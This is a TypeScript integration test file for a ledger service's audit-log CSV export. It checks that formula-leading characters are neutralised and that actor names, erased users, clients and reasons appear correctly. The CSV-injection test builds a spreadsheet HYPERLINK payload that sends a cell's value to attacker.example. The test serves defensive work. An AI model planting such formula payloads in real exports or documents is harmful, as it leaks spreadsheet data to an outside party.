import { randomUUID } from 'node:crypto';
import { sql } from 'kysely';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { needs } from '../support/services.js';
import { startTestLedger, type TestLedger } from '../support/ledger.js';
import { createClient, inviteMember } from '../support/tenants.js';

const skip = needs('postgres').skip || needs('redis').skip;

/**
 * What a spreadsheet may read as the start of a formula (OWASP, CSV injection): =, +, -, @, tab and carriage return;
 * a line feed; and the full-width forms of the first four, which some spreadsheets take for the ASCII ones.
 */
const LEADING = ['=', '+', '-', '@', '\t', '\r', '\n', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20'];

/** RFC 4180: fields separated by commas, quoted when they hold a comma, a quote or a line break. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  const endField = () => {
    row.push(field);
    field = '';
  };
  for (let i = 0; i < text.length; i++) {
    const char = text[i]!;
    if (quoted && char === '"' && text[i + 1] === '"') {
      field += '"';
      i++;
    } else if (char === '"') {
      quoted = !quoted;
    } else if (!quoted && char === ',') {
      endField();
    } else if (!quoted && char === '\n') {
      endField();
      rows.push(row);
      row = [];
    } else {
      field += char;
    }
  }
  return rows;
}

describe.skipIf(skip)(`the audit export as CSV${skip ? ' (skipped: no postgres or redis)' : ''}`, () => {
  let ledger: TestLedger;
  let admin: Awaited<ReturnType<TestLedger['signUp']>>;
  beforeAll(async () => {
    ledger = await startTestLedger();
    admin = await ledger.signUp();
  });
  afterAll(() => ledger?.close());

  it('lets no field start a spreadsheet formula', async () => {
    // Rows as the audit log may hold them from events recorded by any writer: every text field starts with one of them.
    const payload = (lead: string) => `${lead}HYPERLINK("https://attacker.example/?leak="&A1,"open")`;
    await ledger.sql((db) =>
      Promise.all(
        LEADING.map((lead, i) =>
          sql`insert into audit_log (tenant_id, position, event_id, stream_id, event_type, actor_id, correlation_id, ip,
                recorded_at, outcome)
              values (${admin.tenantId}, ${`99999999999999999999-${String(i).padStart(20, '0')}`}, ${randomUUID()},
                ${payload(lead)}, ${payload(lead)}, ${payload(lead)}, ${payload(lead)}, ${payload(lead)}, now(),
                'recorded')`.execute(db),
        ),
      ),
    );
    const response = await fetch(`${ledger.url}/api/v1/audit/export?format=csv`, {
      headers: { authorization: `Bearer ${admin.accessToken}` },
    });
    expect(response.status).toBe(200);
    const [header, ...rows] = parseCsv(await response.text());
    const injected = rows.filter((row) => row[0]!.startsWith('99999999999999999999-'));
    expect(injected).toHaveLength(LEADING.length);
    for (const [i, row] of injected.entries()) {
      for (const column of ['streamId', 'type', 'actorId', 'correlationId', 'ip']) {
        const cell = row[header!.indexOf(column)]!;
        expect(cell, `${column} starting with U+${LEADING[i]!.codePointAt(0)!.toString(16)}`).toBe(
          `'${payload(LEADING[i]!)}`,
        );
      }
    }
  });

  it('names the actor as of the event ([erased] once erased), the client, and the full reason', async () => {
    const token = admin.accessToken;
    const clientId = await createClient(ledger, token, 'Northwind Dental');
    const service = await ledger.request<{ data: { aiServiceId: string } }>('POST', '/ai-services', {
      token,
      body: { name: 'Scribe', vendor: 'V', models: ['m'], baaSigned: true, dpaSigned: true, dataRetentionDays: 0 },
    });
    const reason = 'BAA signed 2026-03-01, contract #114; reviewed by counsel';
    const approved = await ledger.request<{ meta: { position: string } }>(
      'POST',
      `/clients/${clientId}/ai-services/${service.body.data.aiServiceId}/approve`,
      { token, body: { reason } },
    );
    expect(approved.status).toBe(200);
    const analyst = await inviteMember(ledger, token, 'msp_analyst', undefined, 'Grace Hopper');
    const refused = await ledger.request<{ title: string; detail: string }>('POST', '/clients', {
      token: analyst.accessToken,
      body: { name: 'Not allowed', industry: 'x', size: '1-10' },
    });
    expect(refused.status).toBe(403);
    const erased = await ledger.request<{ meta: { position: string } }>('POST', `/users/${analyst.userId}/erase`, {
      token,
    });
    expect(erased.status).toBe(200);

    const response = await fetch(`${ledger.url}/api/v1/audit/export?format=csv`, {
      headers: { authorization: `Bearer ${token}`, 'x-min-position': erased.body.meta.position },
    });
    expect(response.status).toBe(200);
    const [header, ...rows] = parseCsv(await response.text());
    const cell = (row: string[], column: string) => row[header!.indexOf(column)]!;
    const approval = rows.find((row) => cell(row, 'type') === 'AiServiceApproved')!;
    expect(cell(approval, 'actorId')).toBe(admin.userId);
    expect(cell(approval, 'actorName')).toBe('Ada Admin');
    expect(cell(approval, 'clientId')).toBe(clientId);
    expect(cell(approval, 'reason')).toBe(reason);
    const refusal = rows.find(
      (row) => cell(row, 'type') === 'CommandRefused' && cell(row, 'actorId') === analyst.userId,
    )!;
    expect(cell(refusal, 'actorName')).toBe('[erased]');
    expect(cell(refusal, 'clientId')).toBe('');
    expect(cell(refusal, 'reason')).toBe(`${refused.body.title}: ${refused.body.detail}`);
    expect(refused.body.detail.length).toBeGreaterThan(0);
    // The MSP's own events belong to no client.
    const registered = rows.find((row) => cell(row, 'type') === 'AiServiceRegistered')!;
    expect(cell(registered, 'clientId')).toBe('');

    const listed = await ledger.request<{
      data: Array<{ type: string; actorName: string | null; clientId: string | null }>;
    }>('GET', '/audit?type=AiServiceApproved', { token });
    expect(listed.body.data[0]).toMatchObject({ actorName: 'Ada Admin', clientId });
  });
});
